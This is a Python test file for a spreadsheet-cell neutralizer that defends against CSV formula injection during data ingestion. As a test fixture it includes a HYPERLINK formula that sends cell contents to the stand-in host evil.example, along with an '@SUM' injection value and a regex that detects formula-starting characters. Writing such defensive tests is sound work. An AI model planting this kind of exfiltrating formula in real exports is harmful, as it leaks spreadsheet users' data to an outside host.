"""Cells for spreadsheets: none of them runs, and a program reads back what was written."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from graph_api.ingestion.progress import Progress, Rejects
from graph_api.ingestion.row import RowError
from graph_api.ingestion.spreadsheet_cells import neutralize

# What begins a formula after the separators of any language.
RUNS = re.compile(r"(?:\A|[;\t\r\n])[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]")
LINK = '=HYPERLINK("https://evil.example/?c="&A1,"Read more")'

texts = st.text(st.sampled_from("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20';,\" ab"), max_size=12)


def restored(cell: str) -> str:
    """Remove the apostrophes that neutralize added, as docs/operations.md tells."""
    return re.sub(r"(?:\A|(?<=[;\t\r\n]))'(?='*[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20])", "", cell)


@pytest.mark.random
@given(texts)
def test_no_cell_runs_and_each_can_be_restored(text: str) -> None:
    assert not RUNS.search(neutralize(text))
    assert restored(neutralize(text)) == text


@pytest.mark.parametrize("text", ["", "name", "a = b", "ann@shop.example", "1 - 2", "it's", "x'=y"])
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert neutralize(text) == text


def test_rejects_hold_no_formula_and_the_console_shows_the_reason_unchanged() -> None:
    console, file = Console(file=io.StringIO(), width=1_000), io.StringIO(newline="")
    errors = [
        RowError(2, LINK, f"{LINK} is not a UUID."),
        RowError(3, "@SUM(A1)", f"The cell is not a number;{LINK}", "CONFLICT"),
        RowError(4, None, "The row has 3 cells."),
    ]
    rejects = Rejects(Progress(console, None), file, "column")
    for error in errors:
        rejects.add(error)
    rows = list(csv.DictReader(io.StringIO(file.getvalue())))
    assert not any(RUNS.search(cell) for row in rows for cell in row.values())
    read = [
        RowError(int(it["line"]), restored(it["column"]) or None, restored(it["reason"]), restored(it["code"])) for it in rows
    ]
    assert read == errors
    printed = console.file.getvalue()  # type: ignore[attr-defined]
    assert f"line 2, column {LINK}: {LINK} is not a UUID." in printed
